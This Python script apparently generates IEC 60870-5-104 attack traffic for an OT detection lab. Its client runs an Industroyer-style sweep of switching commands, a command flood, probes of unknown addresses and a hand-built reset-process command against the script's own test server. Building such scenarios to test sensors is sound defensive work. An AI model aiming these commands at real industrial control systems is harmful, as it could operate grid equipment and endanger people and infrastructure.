"""IEC 60870-5-104 attack scenario for make-ot.sh: c104 server and client.

  python3 iec104_attack.py server IP   station CA 47 on IP:2404 with single
                                       commands C_SC_NA_1 at IOAs 100..115
                                       (direct execute) and a reset-process
                                       point C_RP_NA_1 at IOA 0
  python3 iec104_attack.py client IP   STARTDT, then
    - C_SC_NA_1 ON to each IOA 100..115 (an Industroyer-style IOA sweep),
    - 16 more C_SC_NA_1 OFF/ON to IOA 100..107 (with the sweep: 32 commands
      within a few seconds, a command flood),
    - C_SC_NA_1 to 6 IOAs the station does not have (200..205): each is
      answered with COT 47 (unknown IOA), negative,
    then close; and
    - C_RP_NA_1 reset process (QRP 1, general reset) to IOA 0: c104 2.2.1
      has no C_RP_NA_1 point type, so a second connection speaks raw APDUs
      over a plain socket (STARTDT, the I-frame, S-frame, STOPDT); the c104
      server answers it (negatively: it has no reset-process handler).
Init.MUTED as in iec104.py: no automatic interrogation or clock sync.
"""
import socket
import struct
import sys
import time

import c104

CA = 47
SWEEP = range(100, 116)
UNKNOWN = range(200, 206)


def server(ip):
    srv = c104.Server(ip=ip, port=2404)
    st = srv.add_station(common_address=CA)

    def on_cmd(point: c104.Point, previous_info: c104.Information,
               message: c104.IncomingMessage) -> c104.ResponseState:
        print(f"server: {point.type} IOA {point.io_address} value={point.value}", flush=True)
        return c104.ResponseState.SUCCESS

    for ioa in SWEEP:
        st.add_point(io_address=ioa, type=c104.Type.C_SC_NA_1).on_receive(callable=on_cmd)
    srv.start()
    while True:
        time.sleep(1)


def client(ip):
    cl = c104.Client(tick_rate_ms=50, command_timeout_ms=2000)
    con = cl.add_connection(ip=ip, port=2404, init=c104.Init.MUTED)
    st = con.add_station(common_address=CA)
    pts = {ioa: st.add_point(io_address=ioa, type=c104.Type.C_SC_NA_1) for ioa in list(SWEEP) + list(UNKNOWN)}
    cl.start()
    for _ in range(50):
        if con.state == c104.ConnectionState.OPEN_MUTED:
            break
        time.sleep(0.1)
    else:
        raise SystemExit(f"not connected: {con.state}")
    if not con.unmute():
        raise SystemExit("STARTDT failed")
    for _ in range(50):
        if con.state == c104.ConnectionState.OPEN:
            break
        time.sleep(0.1)
    else:
        raise SystemExit(f"not open: {con.state}")
    print("STARTDT: ok")
    time.sleep(0.2)
    for ioa in SWEEP:
        pts[ioa].value = True
        if not pts[ioa].transmit(cause=c104.Cot.ACTIVATION):
            raise SystemExit(f"C_SC_NA_1 IOA {ioa} failed")
    print(f"C_SC_NA_1 ON to IOA {SWEEP[0]}..{SWEEP[-1]}: ok")
    for i in range(16):
        ioa = SWEEP[i % 8]
        pts[ioa].value = bool(i % 2)
        if not pts[ioa].transmit(cause=c104.Cot.ACTIVATION):
            raise SystemExit(f"C_SC_NA_1 IOA {ioa} (flood) failed")
    print("16 more C_SC_NA_1 to IOA 100..107: ok")
    for ioa in UNKNOWN:
        pts[ioa].value = True
        # c104's transmit() reports the act-con, negative or not: the
        # server's COT 47 answer is checked in the capture by the sensor.
        pts[ioa].transmit(cause=c104.Cot.ACTIVATION)
    print(f"C_SC_NA_1 to unknown IOA {UNKNOWN[0]}..{UNKNOWN[-1]}: sent")
    time.sleep(0.3)
    con.disconnect()
    time.sleep(0.3)
    cl.stop()
    time.sleep(0.3)
    reset_process(ip)


def recv_apdu(s):
    hdr = b""
    while len(hdr) < 2:
        hdr += s.recv(2 - len(hdr))
    if hdr[0] != 0x68:
        raise SystemExit(f"bad APDU start {hdr!r}")
    body = b""
    while len(body) < hdr[1]:
        body += s.recv(hdr[1] - len(body))
    return body


def reset_process(ip):
    s = socket.create_connection((ip, 2404), timeout=3)
    s.sendall(b"\x68\x04\x07\x00\x00\x00")  # STARTDT act
    if recv_apdu(s)[0] != 0x0B:
        raise SystemExit("no STARTDT con")
    # I-frame N(S)=0 N(R)=0: C_RP_NA_1 (105), VSQ 1, COT 6 act, OA 0, CA 47, IOA 0, QRP 1
    asdu = bytes([105, 1, 6, 0]) + struct.pack("<H", CA) + b"\x00\x00\x00" + b"\x01"
    s.sendall(bytes([0x68, 4 + len(asdu)]) + b"\x00\x00\x00\x00" + asdu)
    body = recv_apdu(s)
    if body[0] & 1:
        raise SystemExit(f"no I-frame answer: {body.hex()}")
    print(f"C_RP_NA_1 reset process: answered type {body[4]} COT {body[6] & 0x3f} negative={bool(body[6] & 0x40)}")
    s.sendall(b"\x68\x04\x01\x00\x02\x00")  # S-frame N(R)=1
    s.sendall(b"\x68\x04\x13\x00\x00\x00")  # STOPDT act
    recv_apdu(s)
    s.close()


if __name__ == "__main__":
    mode, ip = sys.argv[1], sys.argv[2]
    server(ip) if mode == "server" else client(ip)
